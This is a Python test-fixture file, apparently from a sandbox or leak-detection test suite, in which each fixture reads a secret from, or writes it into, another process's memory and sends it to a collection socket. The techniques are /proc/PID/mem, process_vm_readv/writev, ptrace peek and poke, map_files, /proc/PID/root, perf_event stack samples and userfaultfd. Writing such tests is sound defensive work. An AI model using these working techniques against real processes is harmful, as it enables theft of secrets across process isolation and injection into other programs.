"""Thefts out of, and into, the memory of another process of the job."""

import ctypes
import fcntl
import mmap
import os
import signal
import socket
import struct
import time

from evade import LIBC, checked, child, fixture, main, path, read, send, sink, tmp, wait

BYTES = 4096
PTRACE_PEEK, PTRACE_POKE, PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 2, 5, 16, 17, 0x4206, 0x4207
LIBC.ptrace.restype = ctypes.c_long
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def place():
    """Memory that children have at the same address, each its own."""
    return ctypes.create_string_buffer(BYTES)


def taken_from(door):
    """A keeper has the secret in its memory; another takes it from there by `door`, which is given the keeper and the address."""
    memory = place()
    ready, told = os.pipe()

    def keep():
        data = read()
        ctypes.memmove(memory, data, len(data))
        os.write(told, b"!")
        signal.pause()

    keeper = child(keep)
    os.read(ready, 1)
    try:
        wait(child(lambda: send(door(keeper, ctypes.addressof(memory)).rstrip(b"\0"))))
    finally:
        os.kill(keeper, signal.SIGKILL)
        os.waitpid(keeper, 0)


def put_into(door, opened=lambda pid: None):
    """Who has the secret puts it into the memory of another by `door`; that one makes no call until it is there, and sends it then.
    What `opened` gives for that one, before the secret is read, `door` is given last."""
    memory = place()
    ready, told = os.pipe()

    def take():
        # A connection from before, so that what comes first is the send.
        with socket.create_connection(sink()) as stream:
            os.write(told, b"!")
            while memory[0] == b"\0":
                pass
            stream.sendall(memory.raw.rstrip(b"\0"))

    taker = child(take)
    os.read(ready, 1)
    before = opened(taker)
    door(taker, ctypes.addressof(memory), read(), before)
    wait(taker)


@fixture("B34", "the memory of another process, by /proc/PID/mem")
def mem():
    def door(pid, address):
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
            return os.pread(file.fileno(), BYTES, address)

    taken_from(door)


@fixture("B34", "the memory of another process, by process_vm_readv")
def vm_readv():
    def door(pid, address):
        into = ctypes.create_string_buffer(BYTES)
        own = struct.pack("<QQ", ctypes.addressof(into), BYTES)
        checked(LIBC.process_vm_readv(pid, own, 1, struct.pack("<QQ", address, BYTES), 1, 0))
        return into.raw

    taken_from(door)


def peeked(pid, address):
    words = []
    for at in range(address, address + 512, 8):
        word = ctypes.c_long(LIBC.ptrace(PTRACE_PEEK, pid, at, None)).value
        words.append(struct.pack("<q", word))
    return b"".join(words)


@fixture("B34", "the memory of another process, by PTRACE_ATTACH and PEEK")
def ptrace_attach():
    def door(pid, address):
        checked(LIBC.ptrace(PTRACE_ATTACH, pid, None, None))
        os.waitpid(pid, 0x40000000)
        data = peeked(pid, address)
        LIBC.ptrace(PTRACE_DETACH, pid, None, None)
        return data

    taken_from(door)


@fixture("B34", "the memory of another process, by PTRACE_SEIZE and PEEK")
def ptrace_seize():
    def door(pid, address):
        checked(LIBC.ptrace(PTRACE_SEIZE, pid, None, None))
        checked(LIBC.ptrace(PTRACE_INTERRUPT, pid, None, None))
        os.waitpid(pid, 0x40000000)
        data = peeked(pid, address)
        LIBC.ptrace(PTRACE_DETACH, pid, None, None)
        return data

    taken_from(door)


@fixture("B34", "the memory of a program that a child of its tracer runs (PTRACE_TRACEME, exec)")
def traced_program():
    TRACEME, SYSCALL, GETREGS, KILLS = 0, 24, 12, 0x100000
    out, into = os.pipe()
    pid = os.fork()
    if pid == 0:
        checked(LIBC.ptrace(TRACEME, 0, None, None))
        os.dup2(into, 1)
        os.execv("/bin/cat", ["cat", path()])
    os.waitpid(pid, 0)
    checked(LIBC.ptrace(0x4200, pid, None, KILLS))
    registers = ctypes.create_string_buffer(27 * 8)
    while True:
        checked(LIBC.ptrace(SYSCALL, pid, None, None))
        _, status = os.waitpid(pid, 0)
        if not os.WIFSTOPPED(status):
            raise SystemExit("it ended before it wrote")
        checked(LIBC.ptrace(GETREGS, pid, None, registers))
        words = struct.unpack("<27Q", registers.raw)
        # user_regs_struct of x86_64: rdx, rsi, rdi, orig_rax.
        length, address, fd, number = words[12:16]
        if number == 1 and fd == 1:
            break
    data = peeked(pid, address)[:length]
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    send(data)


@fixture("B34", "a file in memory that another process has mapped, by /proc/PID/map_files")
def map_files():
    ready, told = os.pipe()

    def keep():
        fd = os.memfd_create("kept")
        os.write(fd, read())
        os.ftruncate(fd, BYTES)
        memory = mmap.mmap(fd, BYTES)
        os.close(fd)
        os.write(told, b"!")
        signal.pause()
        memory.close()

    keeper = child(keep)
    os.read(ready, 1)

    def take():
        [line] = [line for line in open(f"/proc/{keeper}/maps") if "memfd:kept" in line]
        send(read(f"/proc/{keeper}/map_files/{line.split()[0]}").rstrip(b"\0"))

    try:
        wait(child(take))
    finally:
        os.kill(keeper, signal.SIGKILL)
        os.waitpid(keeper, 0)


@fixture("B34", "the root of another process, by /proc/PID/root")
def root():
    ready, told = os.pipe()

    def keep():
        os.write(told, b"!")
        signal.pause()

    keeper = child(keep)
    os.read(ready, 1)
    try:
        wait(child(lambda: send(read(f"/proc/{keeper}/root{path()}"))))
    finally:
        os.kill(keeper, signal.SIGKILL)
        os.waitpid(keeper, 0)


class Stack(ctypes.Structure):
    """Passed by value, it lies on the stack as long as the call lasts."""

    _fields_ = [("bytes", ctypes.c_char * 1024)]


@fixture("B34", "the stack of another process, by samples of perf_event_open")
def perf_event():
    CLOCK, CALL, PAGES, STACK_BYTES = 1, 298 if os.uname().machine == "x86_64" else 241, 256, 4096
    SAMPLE_STACK, NOT_THE_KERNEL, MARK = 1 << 13, 1 << 5, b"[on the stack]"
    ready, told = os.pipe()

    def keep():
        stack = Stack(MARK + read())
        room = ctypes.create_string_buffer(1 << 20)
        LIBC.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t, Stack]
        os.write(told, b"!")
        while True:
            # In the library, below what is passed to it.
            LIBC.memset(room, 0, len(room), stack)

    def take(pid):
        # struct perf_event_attr, of 112 bytes (include/uapi/linux/perf_event.h): a sample each 100 microseconds of the clock.
        attr = struct.pack("<IIQQQQQ", CLOCK, 112, 0, 100_000, SAMPLE_STACK, 0, NOT_THE_KERNEL) + bytes(24)
        attr += struct.pack("<QQI", 0, 0, STACK_BYTES)
        attr = ctypes.create_string_buffer(attr.ljust(112, b"\0"), 112)
        event = checked(LIBC.syscall(CALL, attr, pid, -1, -1, 0))
        samples = mmap.mmap(event, (1 + PAGES) * mmap.PAGESIZE)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            _, mark, rest = samples[mmap.PAGESIZE :].partition(MARK)
            if mark:
                return send(rest.partition(b"\0")[0])
        raise AssertionError("no sample has it")

    keeper = child(keep)
    os.read(ready, 1)
    try:
        wait(child(lambda: take(keeper)))
    finally:
        os.kill(keeper, signal.SIGKILL)
        os.waitpid(keeper, 0)


@fixture("B34", "put into another's memory by process_vm_writev")
def vm_writev():
    def door(pid, address, data, _):
        own = ctypes.create_string_buffer(data)
        # The first byte last: it says that all is there.
        for start, end in ((1, len(data)), (0, 1)):
            here = struct.pack("<QQ", ctypes.addressof(own) + start, end - start)
            checked(LIBC.process_vm_writev(pid, here, 1, struct.pack("<QQ", address + start, end - start), 1, 0))

    put_into(door)


def written(memory, address, data):
    # The first byte last: it says that all is there.
    os.pwrite(memory, data[1:], address + 1)
    os.pwrite(memory, data[:1], address)


def opened(pid):
    return os.open(f"/proc/{pid}/mem", os.O_RDWR)


@fixture("B34", "put into another's memory by /proc/PID/mem")
def mem_written():
    put_into(lambda pid, address, data, _: written(opened(pid), address, data))


@fixture("B34", "the same, by a descriptor that was opened before the secret was read")
def mem_written_before():
    put_into(lambda _, address, data, memory: written(memory, address, data), opened)


@fixture("B34", "put into another's memory by PTRACE_POKE")
def poke():
    def door(pid, address, data, _):
        checked(LIBC.ptrace(PTRACE_ATTACH, pid, None, None))
        os.waitpid(pid, 0x40000000)
        data = data.ljust(-(-len(data) // 8) * 8, b"\0")
        for at in reversed(range(0, len(data), 8)):
            [word] = struct.unpack_from("<Q", data, at)
            checked(LIBC.ptrace(PTRACE_POKE, pid, address + at, word))
        LIBC.ptrace(PTRACE_DETACH, pid, None, None)

    put_into(door)


@fixture("B34", "put into another's memory by its userfaultfd, which it passed on", enforce="gap", audit="gap", twin="none", why="userfaultfd")
def userfaultfd():
    CALL, API, REGISTER, COPY = 323 if os.uname().machine == "x86_64" else 282, 0xC018AA3F, 0xC020AA00, 0xC028AA03
    USER_MODE_ONLY, MISSING, PAGE = 1, 1, mmap.PAGESIZE
    ours, theirs = socket.socketpair()

    def take():
        memory = mmap.mmap(-1, PAGE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        at = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        faults = checked(LIBC.syscall(CALL, USER_MODE_ONLY))
        fcntl.ioctl(faults, API, struct.pack("<QQQ", 0xAA, 0, 0))
        fcntl.ioctl(faults, REGISTER, struct.pack("<QQQQ", at, PAGE, MISSING, 0))
        # A connection from before: what comes first is the send.
        with socket.create_connection(sink()) as stream:
            socket.send_fds(theirs, [struct.pack("<Q", at)], [faults])
            stream.sendall(memory[:].rstrip(b"\0"))

    taker = child(take)
    at, [faults], _, _ = socket.recv_fds(ours, 8, 1)
    page = ctypes.create_string_buffer(read(), PAGE)
    fcntl.ioctl(faults, COPY, struct.pack("<QQQQQ", *struct.unpack("<Q", at), ctypes.addressof(page), PAGE, 0, 0))
    wait(taker)


main()
